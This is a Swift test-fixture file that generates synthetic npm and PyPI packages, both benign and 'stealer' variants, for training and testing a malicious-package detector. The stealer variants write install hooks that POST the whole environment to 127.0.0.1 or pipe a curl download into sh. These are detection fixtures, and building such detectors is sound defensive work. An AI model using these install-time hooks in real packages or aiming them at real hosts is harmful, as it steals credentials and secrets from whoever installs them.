import Foundation

/// Synthetic packages for the detector's tests, written here from scratch (never corpus samples): "stealers" whose
/// install step reads the whole environment and posts it to 127.0.0.1 or pipes a download from 127.0.0.1 into a
/// shell, and plain packages that also have build steps, read one variable or use the network at run time. Each
/// `variant` changes names, layout and noise so that a model trained on some variants is tested on others.
public enum DetectorFixtures {
    /// The kinds of package the fixtures write.
    public enum Kind: String, Sendable, CaseIterable {
        /// npm: a postinstall script that posts `JSON.stringify(process.env)` to 127.0.0.1.
        case npmStealer
        /// npm: a plain library, sometimes with a harmless build step.
        case npmPlain
        /// PyPI: a setup.py cmdclass that pipes `curl http://127.0.0.1/...` into `sh` or posts `os.environ`.
        case pypiStealer
        /// PyPI: a plain library.
        case pypiPlain

        /// Whether the kind is a malicious-looking package.
        public var isMalicious: Bool { self == .npmStealer || self == .pypiStealer }

        /// Whether the kind is an npm package.
        public var isNPM: Bool { self == .npmStealer || self == .npmPlain }
    }

    /// The files of a package, relative to its root folder (`package/` for npm, `name-version/` for an sdist).
    /// - Parameters:
    ///   - kind: What to write.
    ///   - name: The package name.
    ///   - version: The version.
    ///   - variant: Which variation (any number; the same number gives the same files).
    /// - Returns: Relative path → text.
    public static func files(_ kind: Kind, name: String, version: String, variant: Int) -> [String: String] {
        switch kind {
        case .npmStealer: npmStealer(name: name, version: version, variant: variant)
        case .npmPlain: npmPlain(name: name, version: version, variant: variant)
        case .pypiStealer: pypiStealer(name: name, version: version, variant: variant)
        case .pypiPlain: pypiPlain(name: name, version: version, variant: variant)
        }
    }

    /// The package as an archive: an npm .tgz or a Python sdist .tar.gz.
    /// - Parameters:
    ///   - kind: What to write.
    ///   - name: The package name.
    ///   - version: The version.
    ///   - variant: Which variation.
    /// - Returns: The archive's bytes.
    /// - Throws: When tar fails.
    public static func archive(_ kind: Kind, name: String, version: String, variant: Int) throws -> Data {
        let files = files(kind, name: name, version: version, variant: variant)
        if kind.isNPM { return try PackageFixtures.npmTarball(files) }
        return try PackageFixtures.sdist(name: name, version: version, files: files)
    }

    // MARK: - Private

    private static let helpers = [
        "function add(a, b) { return a + b; }\nmodule.exports.add = add;\n",
        "const path = require('path');\nmodule.exports.join = (a, b) => path.join(a, b);\n",
        "module.exports.pad = (s, n) => String(s).padStart(n, ' ');\n",
        "const fs = require('fs');\nmodule.exports.load = (f) => fs.readFileSync(f, 'utf8');\n",
    ]

    private static func npmStealer(name: String, version: String, variant: Int) -> [String: String] {
        let script = ["install.js", "setup.js", "scripts/post.js"][variant % 3]
        let port = 8000 + variant % 50
        let send: String
        switch variant % 3 {
        case 0:
            send = """
                const http = require('http');
                const os = require('os');
                const data = JSON.stringify({ env: process.env, host: os.hostname() });
                const req = http.request({ host: '127.0.0.1', port: \(port), path: '/c', method: 'POST' });
                req.write(data);
                req.end();

                """
        case 1:
            send = """
                const https = require('https');
                const payload = Buffer.from(JSON.stringify(process.env)).toString('base64');
                const req = https.request('https://127.0.0.1:\(port)/collect', { method: 'POST' });
                req.end(payload);

                """
        default:
            send = """
                const env = JSON.stringify(process.env);
                fetch('http://127.0.0.1:\(port)/e', { method: 'POST', body: env }).catch(() => {});

                """
        }
        return [
            "package.json": """
                {"name": "\(name)", "version": "\(version)", "main": "index.js",
                 "scripts": {"postinstall": "node \(script)"}}

                """,
            script: send,
            "index.js": helpers[variant % helpers.count],
        ]
    }

    private static func npmPlain(name: String, version: String, variant: Int) -> [String: String] {
        let scripts = variant % 3 == 0 ? #", "scripts": {"postinstall": "node build.js"}"# : ""
        var files = [
            "package.json": """
                {"name": "\(name)", "version": "\(version)", "main": "index.js"\(scripts)}

                """,
            "index.js": helpers[variant % helpers.count],
            "README.md": "# \(name)\n\nA small helper library.\n",
        ]
        if variant % 3 == 0 {
            files["build.js"] = """
                const fs = require('fs');
                fs.writeFileSync('build/out.txt', 'built ' + process.env.npm_package_version);

                """
        }
        if variant % 4 == 1 {
            files["lib/client.js"] = """
                const https = require('https');
                module.exports.get = (url, done) => https.get(url, (res) => done(res.statusCode));

                """
        }
        return files
    }

    private static func pypiStealer(name: String, version: String, variant: Int) -> [String: String] {
        let module = name.replacingOccurrences(of: "-", with: "_")
        let action: String
        switch variant % 2 {
        case 0:
            action = """
                        subprocess.Popen("curl -s http://127.0.0.1:\(8000 + variant % 50)/p.sh | sh", shell=True)
                """
        default:
            action = """
                        data = json.dumps(dict(os.environ)).encode()
                        urllib.request.urlopen("http://127.0.0.1:\(8000 + variant % 50)/c", data=data)
                """
        }
        return [
            "setup.py": """
                import json
                import os
                import subprocess
                import urllib.request
                from setuptools import setup
                from setuptools.command.install import install


                class PostInstall(install):
                    def run(self):
                        install.run(self)
                \(action)

                setup(name='\(name)', version='\(version)', packages=['\(module)'], cmdclass={'install': PostInstall})

                """,
            "\(module)/__init__.py": "def greet(who):\n    return 'hello ' + who\n",
        ]
    }

    private static func pypiPlain(name: String, version: String, variant: Int) -> [String: String] {
        let module = name.replacingOccurrences(of: "-", with: "_")
        var files = [
            "setup.py": "from setuptools import setup\n\nsetup(name='\(name)', version='\(version)', "
                + "packages=['\(module)'])\n",
            "\(module)/__init__.py": "def greet(who):\n    return 'hello ' + who\n",
        ]
        if variant % 3 == 1 {
            files["\(module)/config.py"] = "import os\n\n\ndef home():\n    return os.getenv('HOME', '/')\n"
        }
        if variant % 4 == 2 {
            files["\(module)/client.py"] = """
                import urllib.request


                def fetch(url):
                    with urllib.request.urlopen(url) as response:
                        return response.read()

                """
        }
        return files
    }
}
